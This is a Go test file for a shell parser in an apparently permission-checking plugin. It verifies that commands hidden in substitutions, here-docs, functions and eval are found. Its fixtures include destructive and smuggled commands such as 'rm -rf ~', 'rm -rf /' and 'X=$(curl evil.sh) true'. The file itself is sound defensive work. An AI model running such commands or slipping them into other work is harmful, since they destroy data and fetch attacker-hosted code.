package shell_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/dsh-go/dsh/plugins/tools/permission/shell"
)

// words renders a command's words, a non-literal word marked with ~.
func words(c shell.Command) string {
	var out []string
	for _, w := range c.Words {
		if w.Literal {
			out = append(out, w.Value)
		} else {
			out = append(out, "~"+w.Value)
		}
	}
	return strings.Join(out, " ")
}

func TestParseFindsEverySimpleCommand(t *testing.T) {
	cases := []struct {
		name, src string
		want      []string
	}{
		{"one", "git status", []string{"git status"}},
		{"and", "git status && rm -rf ~", []string{"git status", "rm -rf ~"}},
		{"or", "make || echo failed", []string{"make", "echo failed"}},
		{"semicolon", "cd src; ls -la", []string{"cd src", "ls -la"}},
		{"newline", "cd src\nls", []string{"cd src", "ls"}},
		{"pipe", "cat a.txt | grep x | wc -l", []string{"cat a.txt", "grep x", "wc -l"}},
		{"background", "sleep 1 & echo hi", []string{"sleep 1", "echo hi"}},
		{"subshell", "(cd /tmp && rm x)", []string{"cd /tmp", "rm x"}},
		{"block", "{ echo a; rm b; }", []string{"echo a", "rm b"}},
		{"command substitution", "echo $(rm -rf ~)", []string{"echo ~$(rm -rf ~)", "rm -rf ~"}},
		{"backticks", "echo `whoami`", []string{"echo ~`whoami`", "whoami"}},
		{"substitution in quotes", `echo "today: $(date)"`, []string{`echo ~"today: $(date)"`, "date"}},
		{"substitution in an assignment", "X=$(curl evil.sh) true", []string{"true", "curl evil.sh"}},
		{"assignment only", "X=$(id)", []string{"id"}},
		{"process substitution", "diff <(ls a) <(ls b)", []string{"diff ~<(ls a) ~<(ls b)", "ls a", "ls b"}},
		{"here-doc", "cat <<EOF\n$(rm -rf ~)\nEOF\n", []string{"cat", "rm -rf ~"}},
		{"quoted here-doc runs nothing", "cat <<'EOF'\n$(rm -rf ~)\nEOF\n", []string{"cat"}},
		{"if", "if test -f x; then rm x; fi", []string{"test -f x", "rm x"}},
		{"loop", "for f in *.go; do gofmt -l $f; done", []string{"gofmt -l ~$f"}},
		{"function body", "f() { rm -rf /; }; f", []string{"rm -rf /", "f"}},
		{"negated", "! grep -q x y", []string{"grep -q x y"}},
		{"export", "export A=1 B=$(id)", []string{"export A=1 ~B=$(id)", "id"}},
		{"non-literal program", "$CMD --force", []string{"~$CMD --force"}},
		{"eval", `eval "rm -rf ~"`, []string{"eval rm -rf ~"}},
		{"quotes removed", `'git' "st"atus \rm`, []string{"git status rm"}},
		{"time", "time make test", []string{"make test"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s, err := shell.Parse(c.src)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, cmd := range s.Commands {
				got = append(got, words(cmd))
			}
			if !slices.Equal(got, c.want) {
				t.Fatalf("Parse(%q):\n got %q\nwant %q", c.src, got, c.want)
			}
		})
	}
}

func TestParseKeepsTheTextOfEachCommand(t *testing.T) {
	s, err := shell.Parse("git status && rm -rf ~")
	if err != nil {
		t.Fatal(err)
	}
	if s.Commands[1].Text != "rm -rf ~" || s.Commands[1].Program().Value != "rm" {
		t.Fatalf("got %+v", s.Commands[1])
	}
}

func TestParseReportsWritesThroughRedirections(t *testing.T) {
	cases := []struct {
		src  string
		want []string // target, ~ when not literal
	}{
		{"echo hi > out.txt", []string{"out.txt"}},
		{"echo hi >> /etc/hosts", []string{"/etc/hosts"}},
		{"make &> build.log", []string{"build.log"}},
		{"make >& build.log", []string{"build.log"}},
		{"echo x >| f", []string{"f"}},
		{"cat < in.txt", nil},
		{"make 2>&1 | tee", nil},
		{"echo x >&2", nil},
		{"exec 3>&-", nil},
		{`echo x > "$HOME/.bashrc"`, []string{`~"$HOME/.bashrc"`}},
		{"(echo x) > /tmp/y", []string{"/tmp/y"}},
		{"echo $(echo x > inner) > outer", []string{"outer", "inner"}},
	}
	for _, c := range cases {
		s, err := shell.Parse(c.src)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, w := range s.Writes {
			if w.Literal {
				got = append(got, w.Target)
			} else {
				got = append(got, "~"+w.Target)
			}
		}
		slices.Sort(got)
		want := slices.Clone(c.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("Parse(%q) writes %q, want %q", c.src, got, want)
		}
	}
}

func TestParseErrorNamesThePosition(t *testing.T) {
	_, err := shell.Parse("echo 'unterminated")
	if err == nil || !strings.Contains(err.Error(), "1:6") {
		t.Fatalf("got %v", err)
	}
}
